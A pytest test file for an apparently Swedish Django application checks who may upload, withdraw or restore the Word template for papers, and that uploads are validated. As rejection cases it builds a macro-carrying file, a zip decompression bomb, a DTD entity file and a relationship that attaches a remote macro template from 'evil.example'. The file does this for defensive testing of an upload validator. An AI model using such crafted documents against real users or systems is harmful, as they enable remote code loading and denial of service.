"""The Word template of papers: who may change it, what is refused and in which words, and how it is undone."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable
from datetime import datetime
from pathlib import Path
from typing import Any

import docx
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.utils import translation

from utblick.features.governance import actions, queries
from utblick.features.governance.models import PaperTemplate
from utblick.features.governance.paper_template import LARGEST, problems_of
from utblick.foundation.accounts.viewer import NotAllowed, Viewer

Person = Callable[[str], Viewer]
SignIn = Callable[..., Client]
Make = Callable[..., Any]
PAGE = "/namnder/skrivelsemall/"


@pytest.fixture(autouse=True)
def _own_folder(settings: Any, tmp_path: Path) -> None:
    settings.UTBLICK_DATA = tmp_path


def template(words: str = "Regionens eget huvud", without: str = "") -> bytes:
    document = docx.Document()
    document.sections[0].header.paragraphs[0].text = words
    if without:
        style = document.styles[without].element
        style.getparent().remove(style)
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def with_part(name: str, content: bytes) -> bytes:
    """Give a template with one part more, or in place of its own."""
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(template())) as old,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new,
    ):
        for part in old.namelist():
            if part != name:
                new.writestr(part, old.read(part))
        new.writestr(name, content)
    return out.getvalue()


ATTACHED = b'<Relationships><Relationship Id="r1" Type="x/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'


@pytest.mark.parametrize(
    ("data", "sentence"),
    [
        (b"no document", "inget Word-dokument"),
        (b"", "inget Word-dokument"),
        (b"x" * (LARGEST + 1), "större än 5 MB"),
        (with_part("word/vbaProject.bin", b"x"), "innehåller makron"),
        (with_part("word/media/big.bin", bytes(41 * 1024 * 1024)), "Uppackad är filen för stor"),
        (with_part("word/_rels/settings.xml.rels", ATTACHED), "från en annan mall"),
        (with_part("word/settings.xml", b'<!DOCTYPE a [<!ENTITY b "c">]><a/>'), "DTD"),
        (with_part("word/styles.xml", b"broken"), "inget Word-dokument"),
        (template(without="List Bullet"), "Punktlista"),
        (template(without="Heading 2"), "Rubrik 2"),
    ],
    ids=["text", "empty", "large", "macros", "bomb", "attached", "dtd", "broken", "bullet", "heading"],
)  # fmt: skip
def test_what_is_no_template_is_told_in_plain_words(data: bytes, sentence: str) -> None:
    with translation.override("sv"):
        problems = problems_of(data)
    assert len(problems) == 1
    assert sentence in problems[0]


def test_a_zip_that_is_no_word_document() -> None:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("a.txt", "x")
    with translation.override("sv"):
        assert "Spara den som .docx" in problems_of(out.getvalue())[0]


def test_a_template_that_can_be_used() -> None:
    assert problems_of(template()) == []


@pytest.mark.parametrize(
    ("who", "may_look", "may_change"),
    [
        ("strateg", True, True),
        ("admin", True, True),
        ("sekreterare.tsn", True, False),
        ("bryssel", True, False),
        ("majoritet.tsn", False, False),
        ("kontakt.us", False, False),
        ("kommunikator", False, False),
    ],
)
def test_who_may(
    who: str, may_look: bool, may_change: bool, client_of: SignIn, person: Person, at: datetime
) -> None:
    client = client_of(who)
    for address in (PAGE, f"{PAGE}exempel.docx", f"{PAGE}inbyggd.docx"):
        assert client.get(address).status_code == (200 if may_look else 403), address
    sent = client.post(PAGE, {"file": SimpleUploadedFile("mall.docx", template())})
    assert sent.status_code == (302 if may_change else 403)
    assert PaperTemplate.objects.exists() == may_change
    made = actions.bring_template(template("B"), "b.docx", by=person("admin"), at=at)
    assert client.get(f"{PAGE}{made.pk}.docx").status_code == (200 if may_look else 403)
    if not may_change:
        for act in (actions.take_back_template, actions.use_template_again):
            with pytest.raises(NotAllowed):
                act(made, by=person(who), at=at)


def header(client: Client, paper: Any) -> str:
    answer = client.post(f"/namnder/punkter/{paper.pk}/skrivelse.docx")
    return docx.Document(io.BytesIO(answer.content)).sections[0].header.paragraphs[0].text


def test_papers_are_written_into_it_until_it_is_taken_back(client_of: SignIn, item: Make) -> None:
    client, paper = client_of("admin", "sv"), item()
    writer = client_of("sekreterare.tsn", "sv")
    assert header(writer, paper) == ""
    client.post(PAGE, {"file": SimpleUploadedFile("ett.docx", template("Ett"))})
    assert header(writer, paper) == "Ett"
    refused = client.post(PAGE, {"file": SimpleUploadedFile("fel.docx", template(without="Heading 1"))})
    assert refused.status_code == 422
    assert "Rubrik 1" in str(refused.context["form"].errors["file"])
    assert header(writer, paper) == "Ett"
    client.post(PAGE, {"file": SimpleUploadedFile("två.docx", template("Två"))})
    assert header(writer, paper) == "Två"
    newest = queries.paper_template()
    assert newest is not None
    shown = client.post(f"{PAGE}{newest.pk}/ta-tillbaka/", follow=True).content.decode()
    assert "”ett.docx” gäller igen" in shown
    assert header(writer, paper) == "Ett"
    client.post(f"{PAGE}{newest.pk}/anvand-igen/")
    assert header(writer, paper) == "Två"
    example = docx.Document(io.BytesIO(client.get(f"{PAGE}exempel.docx").content))
    assert "Ett exempel på en skrivelse" in [one.text for one in example.paragraphs]
    assert example.sections[0].header.paragraphs[0].text == "Två"


def test_a_lost_file_is_told_of_and_never_a_fault(
    client_of: SignIn, item: Make, settings: Any, tmp_path: Path
) -> None:
    client_of("admin").post(PAGE, {"file": SimpleUploadedFile("ett.docx", template("Ett"))})
    settings.UTBLICK_DATA = tmp_path / "elsewhere"
    client = client_of("sekreterare.tsn", "sv")
    answer = client.post(f"/namnder/punkter/{item().pk}/skrivelse.docx", follow=True)
    assert "saknas" in answer.content.decode()
